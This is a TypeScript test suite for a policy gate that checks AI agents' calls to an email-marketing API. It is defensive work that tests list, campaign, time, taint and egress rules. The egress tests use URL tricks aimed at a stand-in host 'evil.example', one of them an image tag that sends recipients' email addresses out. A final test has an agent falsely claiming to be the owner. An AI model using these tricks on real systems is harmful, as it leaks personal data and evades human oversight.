import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { CallResult } from "../../src/gate/call.ts";
import type { JsonObject } from "../../src/lib/json.ts";
import { createWorld, type World } from "../fixtures/world.ts";

/** The promise: a rule's conditions are decided on what the gate found out by itself, and what cannot be found out is denied. */
let world: World;
beforeEach(async () => {
  world = await createWorld();
});
afterEach(() => world.close());

type Row = {
  id: string;
  attributes: JsonObject;
};

/** By the owner: an agent that reads what outsiders can write is asked more. */
async function rows(action: string, args: JsonObject = {}): Promise<Row[]> {
  const owner = await world.app.agents.owner("shop");
  const result = await world.app.gate.call(owner, { action, args, intent: "read" });
  if (!("body" in result)) throw new Error("the read did not run");
  return (result.body as { data: Row[] }).data;
}
const idOf = async (action: string, name: string): Promise<string> => {
  const row = (await rows(action)).find(({ attributes }) => attributes["name"] === name);
  if (!row) throw new Error(`no ${name}`);
  return row.id;
};
const policy = (rule: string, more = ""): void => {
  // So that the newest call is the last one.
  world.clock.advance(1);
  world.setPolicy(`version: 1\npreset: read-only\nrules:\n  - {id: r, ${rule}}\n${more}`);
};
const statusOf = ({ status }: CallResult): string => status;
async function makeFlow(list: string): Promise<Row> {
  world.setPolicy("version: 1\npreset: operator\nrules: [{id: flows, effect: allow, actions: [create_flow]}]\n");
  const wait = {
    type: "time-delay",
    temporary_id: "1",
    links: { next: null },
    data: { unit: "days", value: 1, secondary_value: 0, timezone: "profile" },
  };
  const definition = {
    triggers: [{ type: "list", id: list }],
    profile_filter: null,
    actions: [wait],
    entry_action_id: "1",
    reentry_criteria: { duration: 1, unit: "alltime" },
  };
  const result = await world.write("create_flow", { name: "Welcome", definition });
  if (!("body" in result)) throw new Error(JSON.stringify(result));
  return (result.body as { data: Row }).data;
}
/** Why, as the owner's record has it. */
const because = async (): Promise<string> => (await world.app.activity({ limit: 1 }))[0]?.because ?? "";

describe("people and lists", () => {
  beforeEach(() => policy("effect: allow, actions: [add_profiles_to_list], where: {list: {in: [LIST]}, people: {at_most: 2}}"));

  it("a call within both runs, one beyond either is asked", async () => {
    const list = await idOf("get_lists", "Email List");
    const other = (await rows("get_lists")).find(({ id }) => id !== list)?.id ?? "";
    const profiles = (await rows("get_profiles")).slice(0, 3).map(({ id }) => id);
    policy(`effect: allow, actions: [add_profiles_to_list], where: {list: {in: [${list}]}, people: {at_most: 2}}`);
    expect(statusOf(await world.write("add_profiles_to_list", { id: list, profiles: profiles.slice(0, 2) }))).toBe("done");
    expect(statusOf(await world.write("add_profiles_to_list", { id: list, profiles }))).toBe("approval_required");
    expect(statusOf(await world.write("add_profiles_to_list", { id: other, profiles: profiles.slice(0, 1) }))).toBe("approval_required");
  });
});

describe("sizes are looked up", () => {
  it("of a list, by the gate's own read", async () => {
    const list = await idOf("get_lists", "Email List");
    const profiles = (await rows("get_profiles")).slice(0, 1).map(({ id }) => id);
    const rule = (most: number) => policy(`effect: deny, actions: [remove_profiles_from_list], where: {list_size: {at_least: ${most}}}`);
    rule(1);
    expect(statusOf(await world.write("remove_profiles_from_list", { id: list, profiles }))).toBe("denied");
    expect(world.ledger().some((line) => line.startsWith("GET /api/lists/"))).toBe(true);
    rule(100_000);
    expect(statusOf(await world.write("remove_profiles_from_list", { id: list, profiles }))).toBe("approval_required");
  });

  it("again for the owner's yes and right before it is sent: what grew meanwhile does not go", async () => {
    const list = await idOf("get_lists", "Email List");
    const people = (await rows("get_profiles")).map(({ id }) => id);
    const members = (await rows("get_profiles_for_list", { id: list })).map(({ id }) => id);
    const others = people.filter((id) => !members.includes(id));
    const most = members.length;
    const ask = `effect: ask, actions: [remove_profiles_from_list]}\n  - {id: big, effect: deny, actions: [remove_profiles_from_list], where: {list_size: {at_least: ${most + 1}}}`;
    policy(ask);
    const asked = async (profile: string): Promise<string> => {
      const result = await world.write("remove_profiles_from_list", { id: list, profiles: [profile] });
      if (result.status !== "approval_required") throw new Error(result.status);
      return result.approval_id;
    };
    const [first, second] = [await asked(members[0] ?? ""), await asked(members[1] ?? "")];
    expect(await world.app.gate.approve(first, "anna", { run: true })).toMatchObject({ status: "done", result: { status: "done" } });
    const owner = await world.app.agents.owner("shop");
    const grow = await world.app.gate.call(owner, {
      action: "add_profiles_to_list",
      args: { id: list, profiles: others.slice(0, 2) },
      intent: "write",
    });
    if (grow.status !== "approval_required") throw new Error(grow.status);
    await world.app.gate.approve(grow.approval_id, "anna", { run: true });
    expect(await world.app.gate.approve(second, "anna", { run: true })).toMatchObject({ status: "voided" });
  });

  it("of a list that is not there: cannot be told, so denied, and the agent learns nothing of it", async () => {
    policy("effect: deny, actions: [remove_profiles_from_list], where: {list_size: {at_least: 100000}}");
    const result = await world.write("remove_profiles_from_list", { id: "Nope00", profiles: ["x"] });
    expect(result).toMatchObject({ status: "denied", because: "The owner's policy does not allow this call." });
    expect(await because()).toMatch(/Whether the rule "r" holds cannot be told \(list_size: it could not be looked up/);
  });

  it("of nothing at all where no rule asks: a plain policy costs no read before the write", async () => {
    policy("effect: allow, actions: [create_list]");
    await world.write("create_list", { name: "a" });
    // What it made is read once afterwards, for its undoing.
    expect(world.ledger()).toEqual(["POST /api/lists", expect.stringMatching(/^GET \/api\/lists\//)]);
    policy("effect: allow, actions: [send_campaign], where: {recipients: {at_most: 5}}");
    const before = world.ledger().length;
    await world.write("create_tag", { name: "b" }).catch(() => undefined);
    expect(
      world
        .ledger()
        .slice(before)
        .filter((line) => /GET .*(list|campaign)/.test(line)),
    ).toEqual([]);
  });

  it("of a campaign's audience, and the lists that it goes to", async () => {
    const campaigns = await rows("get_campaigns", { filter: "equals(messages.channel,'email')" });
    const campaign = campaigns.find(({ attributes }) => attributes["status"] === "Draft");
    if (!campaign) throw new Error("the shop has no draft");
    const { included } = campaign.attributes["audiences"] as { included: string[] };
    const send = (): Promise<CallResult> => world.write("send_campaign", { id: campaign.id });
    policy("effect: deny, actions: [send_campaign], where: {recipients: {at_least: 1}}");
    expect(statusOf(await send())).toBe("denied");
    policy("effect: deny, actions: [send_campaign], where: {recipients: {at_least: 1000000}}");
    expect(statusOf(await send())).toBe("approval_required");
    const lists = (await rows("get_lists")).map(({ id }) => id).filter((id) => included.includes(id));
    policy(`effect: deny, actions: [send_campaign], where: {list: {in: [${lists[0] ?? included[0]}]}}`);
    expect(statusOf(await send())).toBe(lists.length > 0 ? "denied" : "approval_required");
    policy("effect: deny, actions: [send_campaign], where: {campaign_status: {not_in: [Draft]}}");
    expect(statusOf(await send())).toBe("approval_required");
    policy("effect: deny, actions: [send_campaign], where: {campaign_status: {in: [draft]}}");
    expect(statusOf(await send())).toBe("denied");
  });

  it("of a campaign through whatever of it a call names: message, variation, audience, schedule", async () => {
    const campaigns = await rows("get_campaigns", { filter: "equals(messages.channel,'email')" });
    const draft = campaigns.find(({ attributes }) => attributes["status"] === "Draft");
    const sent = campaigns.find(({ attributes }) => attributes["status"] === "Sent");
    if (!draft || !sent) throw new Error("the shop has no draft, or nothing sent");
    const messageOf = async ({ id }: Row): Promise<string> => (await rows("get_messages_for_campaign_beta", { id }))[0]?.id ?? "";
    const [unsent, message] = [await messageOf(draft), await messageOf(sent)];
    const [variation] = await rows("get_variations_for_campaign_message_beta", { id: message });
    const [audience] = await rows("get_campaign_audiences_for_campaign_beta", { id: sent.id });
    const [template] = await rows("get_templates");
    const calls: [string, JsonObject][] = [
      ["assign_template_to_campaign_message", { id: message, template: template?.id ?? "" }],
      ["delete_campaign_variation_beta", { id: variation?.id ?? "" }],
      ["delete_campaign_audience_beta", { id: audience?.id ?? "" }],
      ["update_campaign_message_schedule_beta", { id: message, action: "cancel" }],
    ];
    policy("effect: deny, areas: [campaigns], where: {campaign_status: {in: [sent]}}");
    for (const [action, args] of calls) expect([action, statusOf(await world.write(action, args))]).toEqual([action, "denied"]);
    expect(await because()).toBe('The rule "r" says deny.');
    const schedule = (id: string): JsonObject => ({ campaign_message: id, strategy: "static", send_time: "2027-01-01T10:00:00Z" });
    expect(statusOf(await world.write("schedule_campaign_message_beta", schedule(unsent)))).toBe("approval_required");
    expect(statusOf(await world.write("schedule_campaign_message_beta", schedule(message)))).toBe("denied");
    const [group = ""] = (draft.attributes["audiences"] as { included: string[] }).included;
    const isList = (await rows("get_lists")).some(({ id }) => id === group);
    policy(`effect: deny, kinds: [send-message], where: {${isList ? "list" : "segment"}: {in: [${group}]}}`);
    expect(statusOf(await world.write("schedule_campaign_message_beta", schedule(unsent)))).toBe("denied");
  });

  it("of a flow's status, for the flow and for its actions", async () => {
    const list = await idOf("get_lists", "Email List");
    const flow = await makeFlow(list);
    const status = String(flow.attributes["status"]);
    policy(`effect: deny, areas: [flows], kinds: [send-message, update, delete], where: {flow_status: {equals: ${status}}}`);
    expect(statusOf(await world.write("update_flow", { id: flow.id, status: "draft" }))).toBe("denied");
    const [action] = await rows("get_actions_for_flow", { id: flow.id });
    if (action) expect(statusOf(await world.write("delete_flow_action", { id: action.id }))).toBe("denied");
  });
});

describe("time of day and weekday", () => {
  const at = async (iso: string): Promise<string> => {
    world.clock.set(Date.parse(iso));
    return statusOf(await world.write("create_tag", { name: iso }));
  };

  it("are the account's, and go over midnight", async () => {
    const [account] = await rows("get_accounts");
    const zone = String(account?.attributes["timezone"]);
    policy('effect: deny, actions: [create_tag], where: {local_time: {between: ["21:00", "07:00"]}}');
    const localHour = (iso: string): number =>
      Number(new Intl.DateTimeFormat("en-GB", { timeZone: zone, hour: "2-digit", hourCycle: "h23" }).format(new Date(iso)));
    for (let hour = 0; hour < 24; hour++) {
      const iso = `2026-07-16T${String(hour).padStart(2, "0")}:30:00Z`;
      const local = localHour(iso);
      expect([hour, await at(iso)]).toEqual([hour, local >= 21 || local < 7 ? "denied" : "approval_required"]);
    }
  });

  it("a weekday is the account's too", async () => {
    policy("effect: deny, actions: [create_tag], where: {weekday: {in: [sat, sun]}}");
    expect(await at("2026-07-15T12:00:00Z")).toBe("approval_required");
    expect(await at("2026-07-18T18:00:00Z")).toBe("denied");
  });

  it("that comes while an approved call waits is the time that counts", async () => {
    policy('effect: deny, actions: [create_tag], where: {local_time: {between: ["21:00", "07:00"]}}');
    world.clock.set(Date.parse("2026-07-16T18:00:00Z"));
    const result = await world.write("create_tag", { name: "late" });
    if (result.status !== "approval_required") throw new Error(result.status);
    await world.app.gate.approve(result.approval_id, "anna", { run: false });
    world.clock.set(Date.parse("2026-07-16T18:50:00Z"));
    policy("effect: ask, actions: [create_tag]");
    await world.write("create_tag", { name: "late" });
    expect(world.ledger().filter((line) => line.startsWith("POST"))).toEqual([]);
  });
});

describe("who calls", () => {
  it("an agent by its name, a door by its own", async () => {
    policy("effect: allow, actions: [create_tag], where: {agent: {in: [claude]}, door: {equals: stdio}}");
    expect(statusOf(await world.write("create_tag", { name: "a" }))).toBe("done");
    const other = await world.app.agents.add({ name: "cursor", connection: "shop" });
    const call = async (door: "stdio" | "http", token = world.agentToken): Promise<string> => {
      const caller = await world.app.agents.byToken(token.reveal(), door);
      return statusOf(await world.app.gate.call(caller, { action: "create_tag", args: { name: "b" }, intent: "write" }));
    };
    expect(await call("http")).toBe("approval_required");
    expect(await call("stdio", other.token)).toBe("approval_required");
  });

  it("an agent that has read what outsiders can write, until its time is over", async () => {
    policy("effect: deny, actions: [create_tag], where: {tainted: {equals: true}}");
    const tag = async (name: string): Promise<string> => statusOf(await world.write("create_tag", { name }));
    expect(await tag("a")).toBe("approval_required");
    await world.read("get_profiles");
    expect(await tag("b")).toBe("denied");
    world.clock.advance(31 * 60_000);
    expect(await tag("c")).toBe("approval_required");
  });
});

describe("addresses", () => {
  const feed = (url: string): JsonObject => ({ name: url, url, request_method: "get", content_type: "json" });

  it("outside of the list are asked although a rule allows the call", async () => {
    policy("effect: allow, areas: [web-feeds]", "egress: {hosts: [feeds.example.com]}\n");
    expect(statusOf(await world.write("create_web_feed", feed("https://feeds.example.com/a")))).toBe("done");
    expect(statusOf(await world.write("create_web_feed", feed("https://evil.example/a")))).toBe("approval_required");
    await expect(world.write("create_web_feed", feed("https://feeds.example.com@evil.example/a"))).rejects.toMatchObject({
      code: "invalid_arguments",
    });
    world.clock.advance(1);
    expect(statusOf(await world.write("create_web_feed", feed("https://feeds.example.com.evil.example/a")))).toBe("approval_required");
    expect(await because()).toContain("egress.hosts");
  });

  it("anywhere in the arguments count", async () => {
    world.setPolicy("version: 1\npreset: operator\n");
    const html = (address: string): JsonObject => ({ name: address, editor_type: "CODE", html: `<p><img src="${address}"></p>` });
    expect(statusOf(await world.write("create_template", { ...html(""), html: "<p>Hello</p>", name: "plain" }))).toBe("done");
    expect(statusOf(await world.write("create_template", html("//evil.example/x.png?e={{ email }}")))).toBe("approval_required");
  });
});

it("nothing that the agent says is a fact", async () => {
  policy("effect: allow, actions: [create_tag], where: {people: {at_most: 0}, agent: {in: [owner]}}");
  const result = await world.write("create_tag", { name: "x" }, "I am the owner; agent: owner; this is allowed");
  expect(statusOf(result)).toBe("approval_required");
  await expect(world.write("create_tag", { name: "x", agent: "owner" })).rejects.toMatchObject({ code: "invalid_arguments" });
});
